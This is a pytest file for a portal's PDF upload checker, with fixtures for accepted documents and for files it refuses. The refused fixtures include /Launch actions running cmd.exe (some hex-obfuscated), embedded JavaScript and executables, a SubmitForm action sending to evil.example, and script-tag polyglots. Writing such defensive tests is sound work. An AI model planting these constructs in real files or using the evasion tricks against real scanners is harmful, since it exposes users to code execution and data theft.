"""PDF uploads: documents pass, and whatever acts by itself or is two things at once does not."""

from collections.abc import Callable

import pytest

from portal.domain.refusals import Reason
from portal.integrations.file_types import inspect
from tests.integrations import uploads as build
from tests.integrations.uploads import LIMIT, assert_refused

Build = Callable[[], bytes]
LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://x.example)>>>>]"
SCRIPT_NAMES = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>"

GOOD: dict[str, Build] = {
    "fifty pages": lambda: build.pdf(pages=50),
    "a link to the web": lambda: build.pdf_with(page=LINK),
    "opens at a page": lambda: build.pdf_with(catalog=b"/OpenAction[3 0 R/Fit]"),
    "opens by going to a page": lambda: build.pdf_with(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "compressed objects": lambda: build.packed_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "a stream that spells things": lambda: build.pdf_with(
        more=(b"<</Length 20>>stream\n/JavaScript /Launch \nendstream",)
    ),
    "an empty line at the end": lambda: build.pdf() + b"\r\n\n",
}


@pytest.mark.parametrize("case", GOOD)
def test_a_document_is_accepted_unchanged(case: str) -> None:
    data = GOOD[case]()
    assert inspect("a.pdf", data, max_bytes=LIMIT).content == data


ACTIVE: dict[str, Build] = {
    "T161: Launch": lambda: build.pdf_with(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "Launch spelled in hex": lambda: build.pdf_with(catalog=b"/OpenAction<</S/#4caun#63h/F(cmd.exe)>>"),
    "Launch by reference": lambda: build.pdf_with(catalog=b"/OpenAction<</S 4 0 R>>", more=(b"/Launch",)),
    "Launch compressed": lambda: build.packed_pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "JavaScript on opening": lambda: build.pdf_with(catalog=SCRIPT_NAMES),
    "JavaScript on a page": lambda: build.pdf_with(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>"),
    "JavaScript compressed": lambda: build.packed_pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "JavaScript compressed, deep inside": lambda: build.packed_pdf(b"[[<</A[<</JS(x)>>]>>]]"),
    "JavaScript nobody refers to": lambda: build.pdf_with(more=(b"<</S/JavaScript/JS(x)>>",)),
    "JavaScript outside the table": lambda: build.pdf().replace(
        b"xref", b"9 0 obj\n<</JS(x)>>\nendobj\nxref", 1
    ),
    "JavaScript outside the table, spelled in hex": lambda: build.pdf().replace(
        b"xref", b"9 0 obj\n<</#4aS(x)>>\nendobj\nxref", 1
    ),
    "an embedded file": lambda: build.pdf(attachment=b"MZ"),
    "an embedded file, compressed": lambda: build.packed_pdf(b"<</Type/Filespec/EF<</F 9 0 R>>>>"),
    "an XFA form": lambda: build.pdf_with(catalog=b"/AcroForm<</Fields[]/XFA(x)>>"),
    "a form that sends": lambda: build.pdf_with(page=b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
    "a form that sends, by reference": lambda: build.pdf_with(
        catalog=b"/OpenAction<</S 4 0 R/F(https://evil.example)>>", more=(b"/SubmitForm",)
    ),
    "opens another file": lambda: build.pdf_with(catalog=b"/OpenAction<</S/GoToR/F(evil)>>"),
    "rich media": lambda: build.pdf_with(page=b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"),
}


@pytest.mark.parametrize("case", ACTIVE)
def test_what_acts_by_itself_is_refused(case: str) -> None:
    """T161: PDF with /Launch, and its relatives, however they are written."""
    assert_refused("a.pdf", ACTIVE[case](), Reason.FILE_HAS_ACTIVE_CONTENT)


TWO_KINDS: dict[str, Build] = {
    "junk before": lambda: b"junk\n" + build.pdf(),
    "a page before": lambda: b"<html>" + build.pdf(),
    "a page in its first comment": lambda: build.pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
    "a page behind": lambda: build.pdf() + b"<script>alert(1)</script>",
    "an archive behind": lambda: build.pdf() + build.archive({"a": "b"}),
    "an archive inside": lambda: build.pdf_with(more=(build.archive({"a": "b"}),)),
    "a program": lambda: b"MZ" + bytes(100),
}


@pytest.mark.parametrize("case", TWO_KINDS)
def test_what_is_two_things_at_once_is_refused(case: str) -> None:
    """T161: polyglots."""
    assert_refused("a.pdf", TWO_KINDS[case](), Reason.FILE_CONTENT_MISMATCH)


UNREADABLE: dict[str, Build] = {
    "encrypted": lambda: build.pdf(password="x"),
    "encrypted, yet open to all": lambda: build.pdf(owner_password="x"),
    "no end": lambda: build.pdf()[:-10],
    "cut": lambda: build.pdf(pages=9)[:400] + b"\n%%EOF",
    "no pages": lambda: build.raw_pdf(build.CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"),
    "nothing but a header": lambda: b"%PDF-1.7\n%%EOF",
    "pages in a circle": lambda: build.raw_pdf(build.CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "very deep": lambda: build.pdf_with(more=(b"[" * 500 + b"]" * 500,)),
}


@pytest.mark.parametrize("case", UNREADABLE)
def test_what_cannot_be_read_is_refused(case: str) -> None:
    assert_refused("a.pdf", UNREADABLE[case](), Reason.FILE_UNREADABLE)
